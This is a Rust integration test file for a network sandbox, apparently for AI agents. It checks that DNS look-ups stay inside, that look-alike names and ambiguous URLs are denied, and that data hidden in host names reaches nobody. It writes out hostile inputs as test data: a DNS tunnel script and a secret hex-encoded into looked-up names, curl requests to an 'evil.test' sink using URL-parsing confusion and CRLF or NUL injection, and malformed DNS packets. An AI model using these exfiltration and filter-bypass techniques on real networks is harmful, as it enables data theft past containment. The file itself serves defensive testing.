//! Name look-ups: every answer inside is synthetic, and no question leaves by being asked.
//!
//! A question that reaches the test's own name server is a leak unless a permitted dial caused it.

#![allow(clippy::unwrap_used, reason = "a failed step fails the test, in its helpers too")]

mod support;

use ringfence_contained_tests::needs;
use support::http::Http;
use support::tcp::Sink;
use support::world::{Answers, World, get, hex, loopback, probing};

const A: u16 = 1;
const TXT: u16 = 16;

fn world() -> World {
    World::new(&[
        ("allowed.test", &["127.0.0.5"]),
        ("deep.wild.test", &["127.0.0.6"]),
        ("denied.test", &["127.0.0.7"]),
    ])
}

/// N05, S18: allowed or not, a name gets a synthetic address at once, and nobody is asked.
#[test]
fn n05_every_name_is_answered_inside_and_no_question_leaves() {
    needs!("python3");
    let world = world();
    world.policy(&[loopback("allowed.test:8080"), loopback("*.wild.test:8080")], &[]);
    let kinds =
        [("A", A), ("NS", 2), ("CNAME", 5), ("MX", 15), ("TXT", TXT), ("SRV", 33), ("ANY", 255)];
    let mut probes = Vec::new();
    let labels: Vec<(String, String)> = ["allowed.test", "denied.test", "x.wild.test"]
        .iter()
        .flat_map(|name| {
            kinds.map(|(word, kind)| {
                (format!("{name} {word}"), format!("dns 198.18.0.1 {name} {kind}"))
            })
        })
        .collect();
    probes.extend(labels.iter().map(|(label, words)| (label.as_str(), words.clone())));
    probes.push(("tcp", "dns 198.18.0.1 allowed.test 1 tcp".to_owned()));
    probes.push(("bare", "dns 198.18.0.1 intranet 1".to_owned()));
    probes.push(("tunnel", "tunnel wild.test 40".to_owned()));
    let answers = world.probe(&probes);
    for (label, _) in &labels {
        let answer = answers.get(label);
        if label.ends_with(" A") {
            assert!(answer.starts_with("code=0 answers=1 198.1"), "{label}: {answer}");
        } else {
            assert_eq!(answer, "code=0 answers=0", "{label}: only addresses are ever answered");
        }
    }
    answers.assert_got("tcp", "code=0 answers=1 198.1");
    assert_eq!(answers.get("bare"), "code=0 answers=0", "a name without a dot has no address");
    assert!(answers.get("tunnel").starts_with("answered "), "{}", answers.get("tunnel"));
    assert_eq!(world.dns.questions(), Vec::new(), "a question left the machine");
    let ledger = world.fixture.ledger();
    let asked = ledger.events("dns");
    assert!(asked.iter().any(|e| e["name"] == "denied.test" && e["record"] == "A"), "{asked:#?}");
    assert!(
        asked.iter().any(|e| e["name"] == "allowed.test" && e["record"] == "TXT"),
        "{asked:#?}"
    );
}

/// N05: the tunnel works where nothing contains it: each label arrives at the name server.
#[test]
fn n05_control_the_tunnel_carries_data_without_a_boundary() {
    needs!("python3");
    let world = world();
    let script = format!(
        "python3 - <<'END'\nimport socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         import sys; sys.path.insert(0, '.'); import net\n\
         s.sendto(net.query(net.labels('secret.sink.test'), 16), ('127.0.0.1', {}))\n\
         s.settimeout(5)\ns.recv(512)\nEND",
        world.dns.address().port()
    );
    let outcome = world.fixture.unprotected(&script);
    assert_eq!(outcome.code, 0, "{outcome:?}");
    assert_eq!(world.dns.questions(), vec![("secret.sink.test".to_owned(), TXT)]);
}

/// N02, N06, S18: a resolver of the agent's own choice is the gateway all the same.
#[test]
fn n02_another_resolver_is_answered_by_the_gateway() {
    needs!("python3");
    let world = world();
    let answers = world.probe(&[
        ("udp", "dns 8.8.8.8 denied.test 1".to_owned()),
        ("tcp", "dns 9.9.9.9 denied.test 1 tcp".to_owned()),
        ("txt", "dns 1.1.1.1 c2.sink.test 16".to_owned()),
        ("mdns", "udp 224.0.0.251 5353".to_owned()),
        ("dot", format!("tcp 1.1.1.1 853 {}", hex([0x16, 3, 1, 0, 1, 1]))),
        ("ntp", "udp 192.0.2.1 123".to_owned()),
    ]);
    answers.assert_got("udp", "code=0 answers=1 198.1");
    answers.assert_got("tcp", "code=0 answers=1 198.1");
    assert_eq!(answers.get("txt"), "code=0 answers=0");
    answers.assert_denied("dot");
    for label in ["mdns", "ntp"] {
        let answer = answers.get(label);
        assert!(!answer.starts_with("got"), "{label}: {answer}");
    }
    assert_eq!(world.dns.questions(), Vec::new());
    world.decisions().assert_denied("1.1.1.1", 853, "no-rule");
}

/// N05: names are looked up outside when a permitted dial needs them, and only those.
#[test]
fn n05_only_permitted_dials_are_looked_up() {
    needs!("python3");
    let world = world();
    let server = Http::start("127.0.0.5:0", "hello from allowed");
    let port = server.port();
    world.policy(&[loopback(&format!("allowed.test:{port}"))], &[]);
    let answers = world.probe(&[
        (
            "allowed",
            format!("tcp allowed.test {port} {}", get(&format!("allowed.test:{port}"), "/")),
        ),
        ("denied", format!("tcp denied.test {port} {}", get(&format!("denied.test:{port}"), "/"))),
        ("missing", "tcp no-such-name.test 4444".to_owned()),
    ]);
    answers.assert_got("allowed", "hello from allowed");
    answers.assert_denied("denied");
    answers.assert_denied("missing");
    world.dns.assert_only(&["allowed.test"]);
    assert!(!world.dns.questions().is_empty());
}

/// N05: broken questions neither leave nor stop the name server inside.
#[test]
fn n05_malformed_questions_do_no_harm() {
    needs!("python3");
    let world = world();
    let head = "126701000001000000000000";
    let cases = [
        ("empty", String::new()),
        ("short", "1267".to_owned()),
        ("head only", head.to_owned()),
        ("loop", format!("{head}c00c00010001")),
        ("forward pointer", format!("{head}c0ff00010001")),
        ("label runs out", format!("{head}3f616263")),
        ("reserved label type", format!("{head}80610000010001")),
        ("chaos class", format!("{head}07616c6c6f77656404746573740000010003")),
        ("nul in a label", format!("{head}076576696c00616204746573740000010001")),
        ("dot in a label", format!("{head}0c616c6c6f7765642e746573740000010001")),
        ("a response", "126781800001000000000000047465737400 00010001".replace(' ', "")),
        ("many questions", format!("1267010000ff000000000000{}", "00".repeat(64))),
    ];
    let probes: Vec<_> = cases
        .iter()
        .map(|(label, bytes)| (*label, format!("dns_raw 198.18.0.1 '{bytes}'")))
        .chain([("after", "dns 198.18.0.1 allowed.test 1".to_owned())])
        .collect();
    let answers = world.probe(&probes);
    for (label, _) in &cases {
        let answer = answers.get(label);
        assert!(answer == "TIMEOUT" || answer.ends_with("answers=0"), "{label}: {answer}");
    }
    answers.assert_got("after", "code=0 answers=1 198.1");
    assert_eq!(world.dns.questions(), Vec::new());
}

/// N08, S10: only the name itself matches its rule, however it is dressed.
#[test]
fn n08_look_alike_names_do_not_match() {
    needs!("python3");
    let world = world();
    let sink = Sink::start("127.0.0.7:0");
    let port = sink.server.port();
    let good = Http::start(&format!("127.0.0.5:{port}"), "hello from allowed");
    let names = [
        "evil-allowed.test",
        "xallowed.test",
        "allowed.test.evil.test",
        "allowed.tes",
        "sub.allowed.test",
        "allowed-test.test",
        "xn--llowed-8nf.test",
        "wild.test",
        "evilwild.test",
    ];
    for name in names.iter().chain(&["allowed.test"]) {
        world.dns.set(name, &[&["127.0.0.7"]]);
    }
    world.dns.set("allowed.test", &[&["127.0.0.5"]]);
    world.policy(
        &[loopback(&format!("allowed.test:{port}")), loopback(&format!("*.wild.test:{port}"))],
        &[],
    );
    let mut probes: Vec<(&str, String)> =
        names.iter().map(|name| (*name, format!("tcp {name} {port} {}", get(name, "/")))).collect();
    probes.push(("dot", format!("tcp allowed.test. {port} {}", get("allowed.test", "/"))));
    probes.push(("case", format!("tcp ALLOWED.Test {port} {}", get("allowed.TEST", "/"))));
    let answers = world.probe(&probes);
    for name in names {
        answers.assert_denied(name);
    }
    // The root's dot and another case are the same name.
    answers.assert_got("dot", "hello from allowed");
    answers.assert_got("case", "hello from allowed");
    assert_eq!(good.server.accepted(), 2);
    sink.assert_untouched("N08");
    let decisions = world.decisions();
    for name in names {
        decisions.assert_denied(name, port, "no-rule");
    }
}

/// N08: the same names reach the same sink where nothing contains them.
#[test]
fn n08_control_the_sink_answers_without_a_boundary() {
    needs!("python3");
    let world = world();
    let sink = Sink::start("127.0.0.7:0");
    let words = format!("tcp 127.0.0.7 {} {}", sink.server.port(), get("evil-allowed.test", "/"));
    let answers = world.unprotected(&[("direct", words)]);
    answers.assert_got("direct", support::tcp::LEAK);
}

/// S10, N08: forms of URLs that parsers read differently never dial what no rule names.
#[test]
fn s10_ambiguous_urls_never_reach_the_sink() {
    needs!("curl");
    let world = world();
    let sink = Sink::start("127.0.0.7:0");
    let port = sink.server.port();
    world.dns.set("evil.test", &[&["127.0.0.7"]]);
    world.policy(&[loopback(&format!("allowed.test:{port}"))], &[]);
    let urls = [
        "http://allowed.test@evil.test:PORT/",
        "http://allowed.test:80@evil.test:PORT/",
        "http://allowed.test%40evil.test:PORT/",
        "http://evil.test:PORT#@allowed.test/",
        "http://evil.test:PORT?@allowed.test/",
        "http://evil.test:PORT/allowed.test",
        "http://evil.test.:PORT/",
        "http://EVIL.test:PORT/",
        "http://evil%2etest:PORT/",
        "http://allowed.test%00.evil.test:PORT/",
        "http://evil.test%0d%0a.allowed.test:PORT/",
        "http://allowed.test%2f@evil.test:PORT/",
        "http://[::ffff:127.0.0.7]:PORT/",
        "http://127.0.0.7:PORT/",
        "http://2130706439:PORT/",
        "http://0x7f000007:PORT/",
        "http://0177.0.0.7:PORT/",
        "http://127.7:PORT/",
        "http://0:PORT/",
        "http://localhost.:PORT/",
    ];
    let mut script = String::new();
    for (number, url) in urls.iter().enumerate() {
        let url = url.replace("PORT", &port.to_string());
        script += &format!(
            "printf 'u{number}\\t'; curl -sS -m 10 --http0.9 --noproxy '*' '{url}' 2>&1 | tail -n 1 | tr -d '\\t'; echo\n"
        );
    }
    let outcome = world.job().sh(&script);
    let answers = Answers::of(&outcome);
    for (number, url) in urls.iter().enumerate() {
        let answer = answers.get(&format!("u{number}"));
        assert!(!answer.contains(support::tcp::LEAK), "{url}: {answer}");
    }
    sink.assert_untouched("S10");
    let control = world.fixture.unprotected(&script.replace("evil.test", "127.0.0.7"));
    assert!(
        control.stdout.contains(support::tcp::LEAK),
        "the attack itself is broken: {control:?}"
    );
}

/// S18: data in a name reaches nobody even when a program looks it up in the usual way.
#[test]
fn s18_data_in_names_reaches_nobody() {
    let world = world();
    world.policy(&[loopback("*.wild.test:8080")], &[]);
    let script = format!(
        "secret=$(printf canary-secret | od -An -tx1 | tr -d ' \\n')\n\
         getent hosts $secret.sink.test || echo none\n\
         getent hosts $secret.wild.test || echo none\n\
         {}",
        probing(&[("direct", format!("dns 127.0.0.1 x.sink.test {TXT}"))])
    );
    let outcome = world.job().sh(&script);
    assert_eq!(outcome.code, 0, "{outcome:?}");
    assert!(outcome.stdout.contains("198.1") || outcome.stdout.contains("fd52:"), "{outcome:?}");
    assert_eq!(world.dns.questions(), Vec::new());
}

/// F06: port 53 always leads to the name server inside, so a rule for it can match nothing; that
/// is said at the start, not found out by the agent.
#[test]
fn f06_a_rule_for_port_53_is_no_silent_failure() {
    let world = world();
    for rule in ["allowed.test:53", "10.0.0.5:53"] {
        let outcome = world.job().flags(["--allow", rule]).sh("echo STARTED");
        let told = outcome.stderr.contains("53");
        assert!(told, "{rule} can match nothing and nobody says so: {outcome:?}");
    }
}

/// The name that was asked for is the one that is judged, whatever alias stands behind it; answers
/// that are too long for a datagram are fetched over TCP; what an alias leads to is judged too.
#[test]
fn n10_aliases_and_long_answers_are_followed_and_judged() {
    needs!("python3");
    let world = world();
    let server = Http::start("127.0.0.5:0", "hello from allowed");
    let port = server.port();
    let sink = Sink::start(&format!("127.0.0.7:{port}"));
    world.dns.set("edge.far.test", &[&["127.0.0.5"]]);
    world.dns.set("inner.far.test", &[&["127.0.0.7"]]);
    world.dns.alias("alias.test", "edge.far.test");
    world.dns.alias("bad.test", "inner.far.test");
    world.dns.only_tcp();
    let rule = |name: &str| support::world::addressed(&format!("{name}:{port}"), &["127.0.0.5/32"]);
    world.policy(&[rule("alias.test"), rule("bad.test")], &[]);
    let ask = |name: &str| format!("tcp {name} {port} {}", get(&format!("{name}:{port}"), "/"));
    let answers = world.probe(&[
        ("alias", ask("alias.test")),
        ("target", ask("edge.far.test")),
        ("bad", ask("bad.test")),
    ]);
    answers.assert_got("alias", "hello from allowed");
    answers.assert_denied("target");
    answers.assert_denied("bad");
    sink.assert_untouched("N10");
    let decisions = world.decisions();
    decisions.assert_denied("edge.far.test", port, "no-rule");
    decisions.assert_denied("bad.test", port, "unnamed-address");
}
